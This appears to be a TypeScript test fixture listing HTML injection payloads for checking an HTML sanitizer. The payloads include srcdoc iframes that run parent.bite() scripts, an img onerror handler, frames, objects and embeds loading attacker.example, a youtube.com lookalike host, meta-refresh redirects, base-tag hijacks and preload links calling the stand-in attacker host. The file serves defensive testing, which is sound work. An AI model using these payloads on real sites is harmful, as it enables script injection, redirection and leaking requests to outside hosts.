import { toAttacks, type Attack } from './attack.ts'

const frames = 'frames'
const documents = 'document control'

export const frameAttacks: Attack[] = [
  ...toAttacks(
    { family: frames, bites: 'script' },
    {
      'frame with its own source': '<iframe srcdoc="<script>parent.bite()</script>"></iframe>',
      'frame with its own encoded source':
        '<iframe srcdoc="&lt;script&gt;parent.bite()&lt;/script&gt;"></iframe>',
      'frame with its own twice encoded source':
        '<iframe srcdoc="<body onload=&quot;parent.bite()&quot;>"></iframe>',
      'frame with its own source and a sandbox':
        '<iframe sandbox="allow-scripts" srcdoc="<script>setInterval(&quot;bite()&quot;,50)</script>"></iframe>',
      'frame with its own source and a player address':
        '<iframe src="https://www.youtube.com/embed/AbCdEfGhIjK" srcdoc="<script>parent.bite()</script>"></iframe>',
      'frame in a frame': `<iframe srcdoc="<iframe srcdoc='<script>top.bite()</script>'></iframe>"></iframe>`,
      'frame in a figure that looks like a player':
        '<figure><iframe srcdoc="<img src=x: onerror=parent.bite()>" title="AbCdEfGhIjK"></iframe></figure>',
    },
  ),
  ...toAttacks(
    { family: frames, bites: 'request' },
    {
      'frame of another host': '<iframe src=https://attacker.example/></iframe>',
      'frame of another host without scheme': '<iframe src=//attacker.example/></iframe>',
      'frame of a host that looks like a player':
        '<iframe src=https://www.youtube.com.attacker.example/embed/AbCdEfGhIjK></iframe>',
      'frame of a player with a path of its own':
        '<iframe src="https://www.youtube.com/embed/../redirect?q=https://attacker.example/"></iframe>',
      'object of another host': '<object data=https://attacker.example/a.svg></object>',
      'page as an object': '<object type=text/html data=https://attacker.example/></object>',
      'embed of another host': '<embed src=https://attacker.example/a.svg>',
      'embedded page of another host': '<embed type=text/html src=https://attacker.example/>',
      'lazy frame of another host': '<iframe loading=lazy src=https://attacker.example/></iframe>',
    },
  ),
]

export const documentAttacks: Attack[] = [
  ...toAttacks(
    { family: documents, bites: 'navigate', written: 'parsed' },
    {
      'refresh to another host':
        '<meta http-equiv=refresh content="0;url=https://attacker.example/">',
      'refresh without a keyword':
        '<meta http-equiv=refresh content="0;https://attacker.example/">',
      'refresh in capitals': '<META HTTP-EQUIV="Refresh" CONTENT="0; URL=\'//attacker.example/\'">',
    },
  ),
  ...toAttacks(
    { family: documents, bites: 'navigate' },
    {
      'refresh put into the body':
        '<div><meta http-equiv=refresh content="0;url=https://attacker.example/"></div>',
      'base that moves every link': '<base href=https://attacker.example/><a href=posts>x</a>',
      'base with a target': '<base target=_top><a href=https://attacker.example/>x</a>',
    },
  ),
  ...toAttacks(
    { family: documents, bites: 'request' },
    {
      'base that moves every picture': '<base href=https://attacker.example/><img src=a.png>',
      'style sheet of another host': '<link rel=stylesheet href=https://attacker.example/a.css>',
      'alternate style sheet of another host':
        '<link rel="alternate stylesheet" title=x href=https://attacker.example/b.css>',
      'font fetched ahead':
        '<link rel=preload as=font crossorigin href=https://attacker.example/c.woff2>',
      'picture fetched ahead': '<link rel=preload as=image href=https://attacker.example/d.png>',
      'script fetched ahead': '<link rel=preload as=script href=https://attacker.example/e.js>',
      'module fetched ahead': '<link rel=modulepreload href=https://attacker.example/f.js>',
      'page fetched ahead': '<link rel=prefetch href=https://attacker.example/g>',
      'data fetched ahead':
        '<link rel=preload as=fetch crossorigin href=https://attacker.example/h.json>',
      'picture set fetched ahead':
        '<link rel=preload as=image imagesrcset="https://attacker.example/i.png 1x">',
    },
  ),
]
